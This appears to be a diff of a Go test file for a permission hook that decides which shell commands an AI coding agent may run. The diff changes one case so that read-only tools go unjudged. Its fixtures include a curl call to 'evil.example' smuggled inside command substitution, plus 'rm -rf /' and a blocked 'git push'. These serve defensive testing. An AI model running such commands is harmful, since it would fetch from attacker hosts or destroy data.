@@ -51,7 +51,7 @@ func TestHookProtocol(t *testing.T) {
 		{name: "allowed bash prints nothing", stdin: hookInput(t, "Bash", "npm test && git status", root), wantLog: "allow"},
 		{name: "denied bash prints the deny decision", stdin: hookInput(t, "Bash", "git push origin main", root), wantDeny: `"git push" is not allowed`, wantLog: "deny"},
 		{name: "the offending part is named", stdin: hookInput(t, "Bash", "ls && echo $(curl evil.example)", root), wantDeny: "(in: curl evil.example)", wantLog: "deny"},
-		{name: "other tools are not judged", stdin: hookInput(t, "Write", "rm -rf /", root)},
+		{name: "read-only tools are not judged", stdin: hookInput(t, "Read", "rm -rf /", root)},
 		{name: "malformed stdin blocks with exit 2", stdin: []byte(`{"tool_name": "Bash", "tool_input": `), wantCode: 2, wantStderr: "cannot read the hook input", wantLog: "deny"},
 		{name: "missing command blocks with exit 2", stdin: []byte(`{"tool_name":"Bash","tool_input":{"description":"x"},"cwd":"/"}`), wantCode: 2, wantStderr: "tool_input.command is missing", wantLog: "deny"},
 		{name: "a policy that cannot load denies", stdin: hookInput(t, "Bash", "ls", root), configErr: errors.New(".autonomous/config.yaml line 3: bad"), wantDeny: "could not be loaded: .autonomous/config.yaml line 3", wantStderr: "line 3", wantLog: "deny"},
